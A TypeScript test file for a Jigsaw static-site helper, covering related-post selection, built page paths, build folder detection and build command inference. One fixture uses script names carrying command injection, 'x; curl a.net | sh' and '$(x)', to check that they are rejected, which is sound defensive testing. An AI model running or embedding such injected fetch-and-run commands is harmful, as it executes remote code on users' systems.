import assert from 'node:assert/strict';
import { test } from 'node:test';
import { MemoryFiles, openSite } from '../../../test/memory-files.ts';
import type { SitePath } from '../site/files.ts';
import { buildCommand } from './build-command.ts';
import { buildFolders } from './build-folders.ts';
import { BuiltPages } from './pages.ts';
import { siblingsOf } from './siblings.ts';

const post = (fields: string, body = 'Text.') => `---\nextends: _layouts.post\n${fields}\n---\n${body}\n`;
const texts = {
  'config.php': `<?php return ['collections' => ['posts' => ['path' => 'blog/{filename}'], 'authors' => []]];`,
  'source/_layouts/post.blade.php': `@yield('content')`,
  'source/_authors/me.md': post('title: Me\ndate: 2025-03-01'),
  'source/_posts/new.md': post('title: New\ndate: 2025-03-02'),
  'source/_posts/near.md': post('title: Near\ndate: 2025-03-01'),
  'source/_posts/far.md': post('title: Far\ndate: 2024-01-01'),
  'source/_posts/illustrated.md': post('title: Illustrated\ndate: 2025-03-02\nimage: /a.png\nimage_alt: A'),
  'source/_posts/headed.md': post('title: Headed\ndate: 2025-03-02', '# Headed'),
  'source/_posts/other.md': post('title: Other\ndate: 2025-03-02').replace('.post', '.page'),
};

test('a post is dressed as one like it, near in date', async () => {
  const { site } = await openSite(texts);
  const own = site.posts.get('source/_posts/new.md' as SitePath);
  assert.ok(own);
  assert.deepEqual(
    siblingsOf(own, site).map(({ path }) => path.replace(/^.*\//, '')),
    ['near.md', 'far.md', 'illustrated.md', 'headed.md'],
  );
});

test('a post’s page is where the build writes it, or is called as it is', async () => {
  const { site } = await openSite({
    ...texts,
    'source/_posts/2024-05-01-Fish Soup.md': post('title: Soup\ndate: 2024-05-01'),
  });
  const pages = new BuiltPages([
    'index.html',
    'new.html',
    'blog/new/index.html',
    'food/fish-soup.html',
    'far/x.html',
  ]);
  const of = (name: string) => {
    const found = site.posts.get(`source/_posts/${name}` as SitePath);
    assert.ok(found);
    return pages.of(found, site);
  };
  assert.deepEqual(of('new.md'), ['blog/new/index.html', 'new.html']);
  assert.deepEqual(of('2024-05-01-Fish Soup.md'), ['food/fish-soup.html']);
  assert.deepEqual(of('far.md'), []);
});

const foldersOf: readonly (readonly [string, Readonly<Record<string, string>>, readonly string[]])[] = [
  ['none', {}, []],
  [
    'Jigsaw’s own',
    { 'build_production/a.html': '', 'build_local/a.html': '', 'builder/a.html': '' },
    ['build_local', 'build_production'],
  ],
  [
    'where config.php says',
    {
      'config.php': `<?php return ['build' => ['destination' => 'out/{env}-site']];`,
      'out/local-site/a.html': '',
      'out/live-site/a.html': '',
      'build_local/a.html': '',
    },
    ['out/local-site', 'out/live-site'],
  ],
  [
    'one folder for all',
    {
      'config.php': `<?php return ['build' => ['destination' => 'docs']];`,
      'docs/a.html': '',
      'docs2/a.html': '',
    },
    ['docs'],
  ],
  [
    'the one that copydesk.json names',
    { 'copydesk.json': '{"build": "public/"}', 'public/a.html': '', 'build_local/a.html': '' },
    ['public'],
  ],
  ['the one that copydesk.json names, and isn’t there', { 'copydesk.json': '{"build": "public"}' }, []],
];

for (const [name, more, expected] of foldersOf) {
  test(`the folders with builds: ${name}`, async () => {
    const files = { ...texts, ...more };
    const { site } = await openSite(files);
    assert.deepEqual(await buildFolders(site, new MemoryFiles(files)), expected);
  });
}

const commands: readonly (readonly [Readonly<Record<string, string>>, string])[] = [
  [{}, 'php vendor/bin/jigsaw build'],
  [
    {
      'package.json':
        '{"scripts": {"prod": "vendor/bin/jigsaw build production", "dev": "x && ./vendor/bin/jigsaw build local"}}',
    },
    'npm run dev',
  ],
  [
    {
      'package.json': '{"scripts": {"start": "vite"}}',
      'composer.json': '{"scripts": {"site": ["@php x", "jigsaw build"]}}',
    },
    'composer site',
  ],
  [{ 'package.json': '{"scripts": {"prod": "jigsaw build production"}}' }, 'npm run prod'],
  [{ 'package.json': '{"scripts": {"site:dev": "jigsaw build"}}' }, 'npm run site:dev'],
  [
    {
      'package.json': '{"scripts": {"x; curl a.net | sh": "jigsaw build", "--x": "jigsaw build"}}',
      'composer.json': '{"scripts": {"$(x)": "jigsaw build"}}',
    },
    'php vendor/bin/jigsaw build',
  ],
  [{ 'package.json': '{"scr' }, 'php vendor/bin/jigsaw build'],
  [{ 'package.json': 'null' }, 'php vendor/bin/jigsaw build'],
];

for (const [files, command] of commands) {
  test(`how a site is built: ${Object.values(files).join(' ')}`, async () => {
    assert.equal(await buildCommand(new MemoryFiles(files)), command);
  });
}
